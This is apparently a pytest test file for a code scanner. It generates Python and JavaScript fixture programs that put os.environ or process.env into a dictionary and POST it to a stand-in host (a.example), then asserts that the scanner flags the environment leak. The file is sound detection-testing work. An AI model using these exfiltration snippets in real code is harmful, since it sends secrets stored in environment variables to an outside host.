"""What is put into a table after it was made flows wherever the table is gone through, asked, or written."""

from __future__ import annotations

import pytest

from scan.rules.code import acts_in

PUT = {
    "python": ("out['zone'] = str(dict(os.environ))", "out.update(os.environ)"),
    "javascript": ("out.zone = JSON.stringify(process.env)", "out['zone'] = JSON.stringify(process.env)"),
}
MADE = ("{'platform': 'x'}", "{'platform': 'x', 'zone': ''}")
USED = {
    "python": (
        "for name, value in out.items():\n    send(value)",
        "for value in out.values():\n    send(value)",
        "send(json.dumps(out))",
        "send(out['zone'])",
        "send(out.get('zone'))",
    ),
    "javascript": (
        "for (const [name, value] of Object.entries(out)) send(value)",
        "for (const value of Object.values(out)) send(value)",
        "send(JSON.stringify(out))",
        "send(out.zone)",
    ),
}
FRAME = {
    "python": "import json, os, urllib.request\ndef send(what):\n    urllib.request.urlopen('https://a.example/in', data=what)\nout = {}\n{}\n{}\n",
    "javascript": "const send = (what) => fetch('https://a.example/in', {{ method: 'POST', body: what }});\nconst out = {};\n{};\n{};\n",
}
CASES = [
    (language, FRAME[language].format(made, put, used))
    for language in FRAME
    for made in MADE
    for put in PUT[language]
    for used in USED[language]
]


@pytest.mark.parametrize(("language", "program"), CASES)
def test_what_is_put_into_a_table_flows_out_of_it(language: str, program: str) -> None:
    assert any(act.kind == "send" and "environment" in act.carries for act in acts_in(program, language))
